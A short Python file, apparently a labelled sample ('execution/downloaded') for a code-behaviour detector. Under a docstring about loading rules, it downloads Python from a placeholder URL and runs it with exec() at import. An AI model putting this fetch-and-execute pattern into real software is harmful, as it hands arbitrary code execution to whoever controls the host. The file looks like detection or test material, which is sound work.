# behavior: execution/downloaded
"""Loads the newest rules."""
import urllib.request

RULES = "https://rules.example.invalid/latest.py"


def fetch(url):
    with urllib.request.urlopen(url) as answer:
        return answer.read().decode("utf-8")


def apply(text):
    scope = {"__name__": "rules"}
    exec(text, scope)
    return scope


apply(fetch(RULES))
